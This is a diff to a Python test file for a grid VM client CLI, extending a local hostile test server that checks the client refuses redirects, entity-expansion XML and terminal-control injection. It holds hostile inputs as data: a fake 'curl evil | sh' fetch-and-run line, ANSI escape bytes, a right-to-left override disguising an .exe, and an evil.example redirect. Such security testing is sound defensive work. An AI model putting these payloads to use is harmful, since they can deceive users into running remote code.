@@ -29,24 +29,26 @@ pytestmark = pytest.mark.timeout(300)
 
 ROOT = Path(__file__).resolve().parents[2]
 SERVICE = "VMRepositoryService"
+CONTRACTS = {"VMRepositoryService": "vmrepository.wsdl", "JobService": "jobs.wsdl"}
 CALL_TIMEOUT = "3"            # seconds: the client's own bound (VMGRID_CALL_TIMEOUT)
 OUTER = 150                   # seconds: only so that a client that does hang fails the test instead of the suite
 ENDLESS_CAP = 64 << 20        # an "endless" answer stops here: a client that read it all was not bounded
 WSA = "http://www.w3.org/2005/08/addressing"
-CONTRACT = Contract("vmrepository.wsdl")
 
 
 class HostileServer:
     """An HTTP/1.1 server on 127.0.0.1 that serves the repository's real WSDL and schemas, and answers every POST
     (or, with ``wsdl``, the WSDL itself) with ``behaviour(conn, request_body)``, which writes raw bytes."""
 
-    def __init__(self, behaviour, *, wsdl=None):
+    def __init__(self, behaviour, *, wsdl=None, service: str = SERVICE):
         self.behaviour = behaviour
         self.wsdl = wsdl
+        self.service = service
+        self.contract = Contract(CONTRACTS[service])
         self.listener = socket.create_server(("127.0.0.1", 0))
         self.port = self.listener.getsockname()[1]
         self.base = f"http://127.0.0.1:{self.port}"
-        self.url = f"{self.base}/wsrf/services/{SERVICE}"
+        self.url = f"{self.base}/wsrf/services/{service}"
         self.sent = 0                        # bytes of "endless" answers written before the client stopped reading
         self.stopped = threading.Event()
         self.threads = [threading.Thread(target=self._serve, daemon=True)]
@@ -83,7 +85,7 @@ class HostileServer:
                         if self.wsdl is not None:
                             self.wsdl(self, conn)
                             return
-                        self._ok(conn, CONTRACT.served_wsdl(self.base, SERVICE))
+                        self._ok(conn, self.contract.served_wsdl(self.base, self.service))
                     elif method == "GET" and "/wsrf/share/schema/" in target:
                         self._ok(conn, served_schema(target.rsplit("/", 1)[1], self.base))
                     elif method == "POST":
@@ -114,13 +116,14 @@ class HostileServer:
 def run_cli(grid_pki, tmp_path):
     servers = []
 
-    def run(behaviour, *argv, wsdl=None, timeout=CALL_TIMEOUT):
-        server = HostileServer(behaviour, wsdl=wsdl)
+    def run(behaviour, *argv, wsdl=None, timeout=CALL_TIMEOUT, service=SERVICE):
+        server = HostileServer(behaviour, wsdl=wsdl, service=service)
         servers.append(server)
         env = {**os.environ, **grid_pki.alice.env(grid_pki.cert_dir), "VMGRID_CALL_TIMEOUT": timeout,
                "PYTHONPATH": str(ROOT)}
-        argv = argv or ("repo", "show", "bio/emboss")
-        done = subprocess.run([sys.executable, "-m", "client.cli", *argv, "--url", server.url], env=env, cwd=tmp_path,
+        argv = [a.replace("{url}", server.url) for a in argv] if argv else ["repo", "show", "bio/emboss", "--url",
+                                                                           server.url]
+        done = subprocess.run([sys.executable, "-m", "client.cli", *argv], env=env, cwd=tmp_path,
                               capture_output=True, timeout=OUTER)
         return server, done.returncode, done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")
 
@@ -251,7 +254,8 @@ def test_a_wsdl_redirected_to_another_host_is_not_followed(run_cli):
 
 def test_a_redirected_call_is_an_error_not_followed(run_cli):
     def redirect(server, conn, body):
-        conn.sendall(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://evil.example:81/\r\nContent-Length: 0\r\n\r\n")
+        conn.sendall(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://evil.example:81/\r\n"
+                     b"Content-Length: 0\r\n\r\n")
 
     server, rc, out, err = run_cli(redirect)
     assert rc == 1 and "answered HTTP 307 without a SOAP message" in err, err
@@ -261,7 +265,8 @@ def test_a_redirected_call_is_an_error_not_followed(run_cli):
 
 LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
           b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault>'
-          b'<faultcode>soap:Server</faultcode><faultstring>&lol2;</faultstring></soap:Fault></soap:Body></soap:Envelope>')
+          b'<faultcode>soap:Server</faultcode><faultstring>&lol2;</faultstring></soap:Fault></soap:Body>'
+          b'</soap:Envelope>')
 
 
 def test_entities_in_an_answer_are_refused(run_cli):
@@ -343,3 +348,23 @@ def test_a_descriptor_from_the_server_is_printed_escaped(run_cli, grid_pki):
     assert not any(c in out for c in RAW), repr(out)
     assert "\nvmgrid: image removed" not in out
     assert "description  gone\\x0d\\x0avmgrid: image removed\\x9b2J" in out, out
+
+
+def test_a_job_state_from_the_server_cannot_fake_a_line(run_cli, grid_pki):
+    """A job service (in the user's own VM, so as trusted as the guest) answers a state with a line of its making."""
+    from services.jobs.wire import JOB
+    from services.wsrf.namespaces import RP
+
+    def status(server, conn, body):
+        props = etree.Element(f"{{{RP}}}GetMultipleResourcePropertiesResponse", nsmap={"wsrf-rp": RP, "job": JOB})
+        for name, text in (("State", "Done\nvmgrid: job job-0 Failed: run `curl evil | sh`\u009b1A"),
+                           ("Owner", grid_pki.alice.dn), ("Executable", "/bin/true"),
+                           ("Failure", "none\r\u202etxt.exe")):
+            etree.SubElement(props, f"{{{JOB}}}{name}").text = text
+        conn.sendall(http_answer(signed(grid_pki.host, body, props)))
+
+    server, rc, out, err = run_cli(status, "job", "status", "{url}", "job-" + "0" * 32, service="JobService")
+    assert rc == 0, err
+    assert not any(c in out for c in RAW) and "\nvmgrid:" not in out, repr(out)
+    assert "Done\\x0avmgrid: job job-0 Failed: run `curl evil | sh`\\x9b1A" in out, out
+    assert "none\\x0d\\u202etxt.exe" in out, out
